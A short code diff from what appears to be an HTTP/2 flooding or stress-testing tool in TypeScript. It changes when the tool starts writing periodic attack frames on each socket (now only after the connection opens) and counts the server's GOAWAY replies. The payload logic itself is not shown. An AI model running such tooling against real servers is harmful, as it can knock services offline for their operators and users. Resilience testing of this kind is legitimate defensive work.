@@ -37,10 +37,13 @@ const open = (): void => {
   const reader = new FrameReader(countGoaway);
   sockets.add(socket);
   report.opened++;
-  const ticker = setInterval(() => {
-    if (socket.writableLength < OUTPUT_LIMIT && socket.writable) socket.write(Buffer.concat(attack.tick(attacker)));
-  }, TICK_MS);
-  socket.once("connect", () => socket.write(Buffer.concat(attack.begin(attacker))));
+  let ticker: NodeJS.Timeout | undefined;
+  socket.once("connect", () => {
+    socket.write(Buffer.concat(attack.begin(attacker)));
+    ticker = setInterval(() => {
+      if (socket.writableLength < OUTPUT_LIMIT && socket.writable) socket.write(Buffer.concat(attack.tick(attacker)));
+    }, TICK_MS);
+  });
   socket.on("data", (chunk: Buffer) => reader.push(chunk));
   socket.on("error", () => {});
   socket.once("close", () => {
